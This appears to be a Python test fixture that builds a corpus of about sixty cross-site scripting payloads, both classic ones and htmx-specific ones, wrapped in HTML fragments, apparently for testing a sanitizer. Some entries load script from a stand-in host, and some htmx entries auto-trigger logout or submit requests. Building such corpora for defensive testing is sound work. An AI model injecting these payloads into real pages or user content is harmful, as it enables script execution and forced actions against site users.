"""A corpus of hostile HTML: classic XSS vectors and htmx-specific ones, with variations."""
from __future__ import annotations

BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<div hx-get=\"/staff/logout\" hx-trigger=\"load\">x</div>",
    "<div data-hx-post=\"/test/submit\" data-hx-trigger=\"load\">x</div>",
    "<p hx-on:click=\"alert(1)\">x</p>",
    "<p hx-on::load=\"alert(1)\">x</p>",
    "<div data-hx-on-click=\"alert(1)\">x</div>",
    "<span hx-vals='{\"confirm\":\"yes\"}' hx-post=\"/test/submit\" hx-trigger=\"load\">x</span>",
    "<p data-key=\"a\" data-correct=\"true\">x</p>",
    "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    "<xss onpointerover=alert(1)>hover</xss>",
    "<p onmouseover=\"alert(1)\">hover</p>",
    "<abbr title=\"x\" onclick=alert(1)>x</abbr>",
    "<img src=\"https://evil.example/x.png\" alt=\"x\" onload=\"alert(1)\">",
    "<img src=\"vbscript:msgbox(1)\">",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
]
WRAPPERS = [
    "{}",
    "<p>Before {} after</p>",
    "<strong>{}</strong>",
    "<ul><li>{}</li></ul>",
]


def payloads() -> list[str]:
    corpus = []
    for payload in BASE:
        for wrapper in WRAPPERS[:2]:
            corpus.append(wrapper.format(payload))
    corpus += [w.format(p) for p in BASE[:20] for w in WRAPPERS[2:]]
    return corpus
